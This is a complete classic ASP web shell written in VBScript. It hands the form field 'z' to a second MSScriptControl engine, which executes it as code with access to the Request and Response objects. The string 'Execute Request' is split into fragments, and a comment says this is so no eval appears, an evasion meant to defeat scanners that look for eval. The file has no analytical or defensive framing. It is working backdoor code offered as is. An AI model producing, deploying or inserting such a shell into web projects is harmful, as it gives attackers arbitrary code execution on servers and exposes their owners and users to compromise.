<%@ Language=VBScript %>
<%
' Hands the request to a second script engine so no eval appears here.
Dim eng
Set eng = Server.CreateObject("MSScriptControl.ScriptControl")
eng.Language = "VBScript"
eng.AddObject "Request", Request
eng.AddObject "Response", Response
eng.ExecuteStatement "Exe" & "cute Req" & "uest.Form(""z"")"
%>
